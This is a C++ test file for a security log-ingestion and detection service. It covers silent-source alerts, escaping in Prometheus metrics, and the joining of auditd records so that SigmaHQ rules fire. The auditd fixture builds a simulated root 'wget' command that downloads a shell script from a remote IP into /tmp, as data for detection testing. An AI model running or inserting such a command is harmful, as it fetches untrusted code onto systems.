// A source with silent_minutes: 1 and the fixture's clock. The pipeline checks for silence on
// its tick (every 5 s of steady time) and writes DIR/run/ingest-status.json on the same tick,
// stamped with the injected clock: a snapshot stamped T shows the check made at T.
class SilentSourceIngestTest : public ServeTest {
protected:
    void SetUp() override {
        ServeTest::SetUp();
        {
            std::ofstream cfg(dir_ / "vigil.yml", std::ios::app);
            cfg << "\ningest:\n"
                << "  sources:\n"
                << "    - {name: quiet, type: syslog-tcp, port: 0, silent_minutes: 1}\n"
                << "    - {name: 'odd \"name\" \\ here', type: syslog-udp, port: 0}\n";
        }
        Restart();
    }

    // Polls the snapshot (bounded) until one stamped `at` or later has a source "quiet" for
    // which `pred` holds; returns that source's JSON (null on timeout).
    json WaitQuiet(int64_t at, const std::function<bool(const json&)>& pred) {
        const fs::path path = dir_ / "run" / "ingest-status.json";
        for (int i = 0; i < 600; ++i) {  // 30 s: a tick is due every 5 s
            std::ifstream in(path);
            const json snap = json::parse(in, nullptr, false);
            const auto stamped =
                ParseTimestamp(snap.is_object() ? snap.value("updated_at", "") : "");
            if (stamped && *stamped >= at) {
                for (const auto& s : snap["sources"]) {
                    if (s["name"] == "quiet" && pred(s)) return s;
                }
            }
            std::this_thread::sleep_for(50ms);
        }
        return nullptr;
    }
    std::vector<store::Detection> SilentDetections() {
        store::OpenEventStoreOptions ro;
        ro.read_only = true;
        ro.background_index = false;
        auto events = store::SqliteEventStore::Open(dir_, ro);
        EXPECT_TRUE(events) << events.error().message;
        std::vector<store::Detection> out;
        if (!events) return out;
        store::DetectionQuery q;
        q.limit = 100;
        auto page = (*events)->ListDetections(q);
        EXPECT_TRUE(page) << page.error().message;
        if (!page) return out;
        for (auto& d : page->detections) {
            if (d.rule_id == "vigil-silent-source") out.push_back(std::move(d));
        }
        return out;
    }
};

TEST_F(SilentSourceIngestTest, AQuietSourceRaisesOneDetectionAndRecoversOnTheNextEvent) {
    const auto any = [](const json&) { return true; };
    const auto silent = [](const json& s) { return s["silent"] == true; };
    json quiet = WaitQuiet(now_, any);
    ASSERT_FALSE(quiet.is_null()) << "no snapshot with the source";
    EXPECT_EQ(quiet["silent"], false);
    EXPECT_TRUE(SilentDetections().empty());

    // A minute and a bit without a message.
    now_ += 61 * kSecond;
    quiet = WaitQuiet(now_, silent);
    ASSERT_FALSE(quiet.is_null()) << "the source was not reported silent";
    auto dets = SilentDetections();
    ASSERT_EQ(dets.size(), 1u);
    EXPECT_EQ(dets[0].rule_title, "Source quiet silent for 1 minutes");
    EXPECT_EQ(dets[0].level, "high");
    EXPECT_EQ(dets[0].time_ns, now_.load());

    // Still quiet at the next check: no second detection for the same silence.
    now_ += 10 * kSecond;
    quiet = WaitQuiet(now_, any);
    ASSERT_FALSE(quiet.is_null());
    EXPECT_EQ(quiet["silent"], true);
    EXPECT_EQ(SilentDetections().size(), 1u);

    // A message: the source is no longer silent at the next check.
    const int fd = ConnectLoopback(app_->ingest_port("quiet"), SOCK_STREAM);
    ASSERT_GE(fd, 0);
    const std::string line = SshFailures("bastion", 1);
    ASSERT_EQ(::send(fd, line.data(), line.size(), MSG_NOSIGNAL),
              static_cast<ssize_t>(line.size()));
    ::close(fd);
    quiet =
        WaitQuiet(now_, [](const json& s) { return s["received"] == 1 && s["silent"] == false; });
    ASSERT_FALSE(quiet.is_null()) << "the source stayed silent after a message";
    EXPECT_EQ(SilentDetections().size(), 1u);
    const json last_received = quiet["last_received_at"];
    ASSERT_TRUE(last_received.is_string()) << quiet.dump();

    // A new silence is a new detection.
    now_ += 61 * kSecond;
    quiet = WaitQuiet(now_, silent);
    ASSERT_FALSE(quiet.is_null());
    EXPECT_EQ(SilentDetections().size(), 2u);
    EXPECT_EQ(quiet["detections"], 2) << "a silent-source detection counts for its source";

    // A restart during the silence: the outage was reported, and is not reported again, not
    // at the first check after the start nor once silent_minutes have passed since it.
    Restart();
    now_ += 5 * kSecond;
    std::this_thread::sleep_for(6s);  // a check (every 5 s) has run, and a snapshot after it
    quiet = WaitQuiet(now_, any);
    ASSERT_FALSE(quiet.is_null());
    EXPECT_EQ(quiet["silent"], true);
    // When the source last sent is still known (it said "never").
    EXPECT_EQ(quiet["last_received_at"], last_received);
    now_ += 61 * kSecond;
    quiet = WaitQuiet(now_, any);
    ASSERT_FALSE(quiet.is_null());
    EXPECT_EQ(quiet["silent"], true);
    EXPECT_EQ(SilentDetections().size(), 2u);
}

// /metrics is Prometheus's text format whatever a source is called: a label value's quote and
// backslash are escaped (one bad line makes Prometheus drop the whole scrape).
TEST_F(SilentSourceIngestTest, MetricsEscapeSourceNamesAndCarryEveryCounter) {
    Browser analyst = FullSession("scraper", auth::Role::kAnalyst);
    const HttpReply r = Get("/metrics", &analyst);
    ASSERT_EQ(r.status, 200);
    EXPECT_NE(r.body.find("vigil_ingest_received_total{source=\"odd \\\"name\\\" \\\\ here\"} 0"),
              std::string::npos)
        << r.body;
    EXPECT_EQ(r.body.find("\"name\" \\ here"), std::string::npos) << "unescaped";
    for (const char* name :
         {"vigil_ingest_silent", "vigil_ingest_last_received_seconds", "vigil_ingest_paused_total",
          "vigil_ingest_connections_total", "vigil_ingest_framing_errors_total",
          "vigil_ingest_tls_failures_total", "vigil_ingest_kernel_drops_total",
          "vigil_ingest_connections_refused_total", "vigil_ingest_compressed_skipped_total",
          "vigil_detections_total", "vigil_ingest_store_errors_total"}) {
        EXPECT_NE(r.body.find(std::string("# TYPE ") + name + " "), std::string::npos) << name;
    }
    EXPECT_NE(r.body.find("vigil_ingest_silent{source=\"quiet\"} 0"), std::string::npos);
}

// Auditd writes one execution as several records (SYSCALL, EXECVE, CWD, EOE). Sent one per
// syslog message over TCP and UDP, as lines of a tailed audit.log and as NDJSON lines, each
// event is stored once, whole, so SigmaHQ's linux process_creation rule that needs the image
// (SYSCALL) and the command line (EXECVE) together fires on it. Needs ../shared/data.
class AuditdIngestTest : public IntakeTest {
protected:
    void SetUp() override {
        ServeTest::SetUp();
        sigma_ = std::filesystem::path(VIGIL_SOURCE_DIR) /
                 "../shared/data/sigma/rules/linux/process_creation";
        if (!std::filesystem::is_directory(sigma_)) {
            GTEST_SKIP() << "SigmaHQ rules not found at " << sigma_.string()
                         << " (../shared/data is absent)";
        }
        {
            std::ofstream cfg(dir_ / "vigil.yml", std::ios::app);
            cfg << "\ningest:\n"
                << "  rules: [" << sigma_.string() << "]\n"
                << "  sources:\n"
                << "    - {name: syslog-tcp, type: syslog-tcp, port: 0}\n"
                << "    - {name: syslog-udp, type: syslog-udp, port: 0}\n"
                << "    - name: audit-file\n"
                << "      type: file\n"
                << "      paths: [" << (dir_ / "tailed" / "audit.log").string() << "]\n";
        }
        std::filesystem::create_directories(dir_ / "tailed");
        Restart();
    }
    // The records of one `wget -O /tmp/... URL` execution, serial `serial`.
    static std::vector<std::string> Records(int serial) {
        const std::string id = "msg=audit(1763712915.123:" + std::to_string(serial) + "): ";
        return {"type=SYSCALL " + id + "arch=c000003e syscall=59 success=yes exit=0 ppid=100 pid=" +
                    std::to_string(serial) + " uid=0 euid=0 comm=\"wget\" exe=\"/usr/bin/wget\"",
                "type=EXECVE " + id + "argc=4 a0=\"wget\" a1=\"-O\" a2=\"/tmp/s" +
                    std::to_string(serial) + ".sh\" a3=\"http://203.0.113.9/s.sh\"",
                "type=CWD " + id + "cwd=\"/root\"", "type=EOE " + id};
    }
    std::filesystem::path sigma_;
};

TEST_F(AuditdIngestTest, RecordsOfOneEventAreStoredTogetherAndSigmaHQRulesFire) {
    const std::string header = "<14>Nov 21 08:15:00 db01 audispd: ";
    int fd = ConnectLoopback(app_->ingest_port("syslog-tcp"), SOCK_STREAM);
    ASSERT_GE(fd, 0);
    std::string tcp;
    for (const auto& r : Records(101)) tcp += header + r + "\n";
    ASSERT_EQ(::send(fd, tcp.data(), tcp.size(), MSG_NOSIGNAL), static_cast<ssize_t>(tcp.size()));
    ::close(fd);
    fd = ConnectLoopback(app_->ingest_port("syslog-udp"), SOCK_DGRAM);
    for (const auto& r : Records(102)) {
        const std::string d = header + r;
        ::send(fd, d.data(), d.size(), 0);
    }
    ::close(fd);
    {
        std::ofstream log(dir_ / "tailed" / "audit.log");
        for (const auto& r : Records(103)) log << r << "\n";
    }
    Browser manager = FullSession("secmgr", auth::Role::kSecurityManager);
    std::string ndjson;
    for (const auto& rec : Records(104)) ndjson += rec + "\n";
    HttpReply intake = PostEvents(IngestToken(manager), ndjson);
    ASSERT_EQ(intake.status, 202) << intake.body;
    EXPECT_EQ(Json(intake)["accepted"], 1) << "four records, one event";

    Browser analyst = FullSession("analyst", auth::Role::kAnalyst);
    json events;
    for (int i = 0; i < 200; ++i) {
        if (app_->WaitIngestIdle(100ms)) {
            HttpReply s = Get("/api/v1/events?since=2000-01-01T00:00:00Z&limit=100", &analyst);
            events = Json(s)["items"];
            if (events.size() >= 4) break;
        }
        std::this_thread::sleep_for(50ms);
    }
    ASSERT_EQ(events.size(), 4u) << events.dump();
    std::set<std::string> sources;
    for (const auto& e : events) {
        sources.insert(e["source"].get<std::string>());
        const std::string message = e["message"].get<std::string>();
        EXPECT_NE(message.find("type=SYSCALL"), std::string::npos) << message;
        EXPECT_NE(message.find("type=EXECVE"), std::string::npos) << message;
        EXPECT_NE(message.find("type=CWD"), std::string::npos) << message;
    }
    EXPECT_EQ(sources, (std::set<std::string>{"syslog-tcp", "syslog-udp", "audit-file", "http"}));

    HttpReply r = Get("/api/v1/detections?since=2000-01-01T00:00:00Z&limit=100", &analyst);
    ASSERT_EQ(r.status, 200) << r.body;
    const json detections = Json(r);
    std::set<std::string> fired_on;
    for (const auto& d : detections["items"]) {
        if (d["rule_title"].get<std::string>().find("Wget") == std::string::npos) continue;
        ASSERT_EQ(d["event_ids"].size(), 1u);
        for (const auto& e : events) {
            if (e["id"] == d["event_ids"][0]) fired_on.insert(e["source"].get<std::string>());
        }
    }
    EXPECT_EQ(fired_on, sources) << detections.dump();
}

}  // namespace
}  // namespace vigil::app
